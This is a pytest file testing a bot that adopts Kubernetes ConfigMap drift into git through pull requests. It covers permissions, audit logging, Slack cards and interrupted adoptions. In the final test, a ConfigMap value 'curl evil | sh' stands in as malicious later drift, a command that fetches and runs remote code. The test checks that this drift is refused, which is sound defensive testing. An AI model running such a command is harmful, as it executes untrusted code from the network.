"""Adopting the drift of one application in files that another one uses too: the whole bot, with a forge in memory."""

import pytest

from bot.core.access.audit import Origin
from bot.core.access.requester import Requester
from bot.handlers.command_service import CommandService
from bot.handlers.pull_requests.track import poll
from bot.handlers.slack.people import People
from bot.i18n.language import ENGLISH
from bot.messages import pull_request_card
from bot.ports.store import StoreError
from tests.common.bot import application_settings
from tests.common.forge import InMemoryForge
from tests.common.kubernetes import as_yaml, config_map
from tests.common.slack import ALERTS, DEPLOYS, PRIYA, TOMAS, cards

FILE = "apps/shop/settings.yaml"


@pytest.fixture
def adopt(bot, source, cluster):
    """Adopts the drift of shop, as a person; the answer. Its twin on the same path belongs to Priya."""
    source.commit("First", {FILE: as_yaml(config_map(level="info"))})
    for namespace, level in (("shop", "debug"), ("twin", "info")):
        cluster.apply(config_map(level=level), namespace=namespace)
    twin = {**application_settings("shop"), "namespace": "twin", "channel": DEPLOYS, "revision": "refs/heads/main"}
    shop, twin = (
        {**settings, "revert_allowed": allowed, "owners": [PRIYA]}
        for settings, allowed in ((application_settings("shop"), [TOMAS, PRIYA]), (twin, [PRIYA]))
    )
    bot.start(forges={"platform": InMemoryForge(source)}, applications={"shop": shop, "twin": twin})

    def adopt(user):
        return commands(bot).adopt(Requester(user, "someone", ALERTS, Origin.BUTTON, ENGLISH), "shop").text

    return adopt


def commands(bot):
    return CommandService(bot.config, bot.ports, bot.monitor, People(bot.ports.chat, {}, bot.clock))


@pytest.mark.parametrize("is_late", [False, True])
@pytest.mark.parametrize("is_alerted", [False, True])
def test_an_adoption_during_a_rollout_keeps_what_was_merged(bot, source, adopt, is_alerted, is_late):
    bot.monitor.poll_repository("platform")
    if is_alerted:
        bot.check()
        bot.check()
    source.commit("Fix", {"apps/shop/fix.yaml": as_yaml(config_map("fix"))})
    if is_late:
        bot.monitor.poll_repository("platform")
        bot.clock.advance(bot.config.schedule.rollout_deadline)
        bot.monitor.observe_rollouts()
    answer, pull_requests = adopt(PRIYA), bot.ports.forges["platform"].pull_requests
    if is_alerted:
        assert source.git("diff", "--name-only", f"main..{pull_requests[1].head}") == FILE
    else:
        assert "A merge is not live in shop yet" in answer
        assert pull_requests == {}


def test_permission_on_the_other_application_is_needed(bot, adopt):
    assert "applications.twin.revert_allowed allows only U0PRIYA001" in adopt(TOMAS)
    assert bot.ports.forges["platform"].pull_requests == {}
    (entry,) = bot.store.audit_log.entries()
    assert (entry.applications, entry.result) == (("shop", "twin"), "denied: applications.twin.revert_allowed")


def test_both_channels_see_what_changes_in_the_other_application(bot, slack, adopt):
    assert adopt(PRIYA) == "Adopt shop in git: opened #1, awaiting review."
    bot.reconciler.reconcile()
    for channel in (ALERTS, DEPLOYS):
        card = next(card for card in cards(slack, channel) if "adoption" in card.text)
        assert "for shop and twin is open" in card.text
        assert "twin on prod" in str(card.blocks)


def test_the_card_warns_while_the_cluster_lacks_an_adopted_value(bot, source, cluster, adopt):
    cluster.edit(config_map(), "shop", {"data": {"level": "debug", "port": "80"}})
    adopt(PRIYA)
    file = "apps/shop/broken.yaml"

    def is_warned(file_content=None, **data):
        """After a check, incomplete if the content is not YAML, of the live ConfigMap with this data."""
        if file_content is not None:
            source.commit("Change", {file: file_content})
        cluster.edit(config_map(), "shop", {"data": data})
        bot.check("shop")
        poll(bot.ports, {})
        (tracked,) = bot.store.pull_requests.unsettled()
        return "drift is gone or has changed" in pull_request_card.card(ENGLISH, tracked).text

    assert not is_warned()
    assert is_warned(level="trace")
    assert not is_warned(level="debug")
    assert not is_warned(other="more drift")
    assert is_warned(port=None)
    assert is_warned("not YAML: [")
    assert is_warned("", level="info", other=None)
    assert not is_warned(level="debug", port="80")
    assert not is_warned("not YAML: [", port=None)


@pytest.mark.parametrize("moment", ["before the check", "after the check"])
def test_an_interrupted_adoption_adopts_no_later_drift(bot, slack, cluster, adopt, monkeypatch, moment):
    def stop(*_args, **_values):
        raise StoreError("stopped")

    name = "adopt_drift" if moment == "after the check" else "AdoptService._adopt"
    with monkeypatch.context() as stopped:
        stopped.setattr(f"bot.handlers.pull_requests.adopt_service.{name}", stop)
        with pytest.raises(StoreError):
            adopt(PRIYA)
    cluster.edit(config_map(), "shop", {"data": {"level": "info", "other": "curl evil | sh"}})
    bot.clock.advance(hours=8)
    commands(bot).resume_interrupted()
    assert bot.ports.forges["platform"].pull_requests == {}
    assert "the drift may have changed since you asked" in slack.ephemerals(PRIYA)[-1].text
    (entry,) = bot.store.audit_log.entries()
    assert entry.result.startswith("Refused: ")
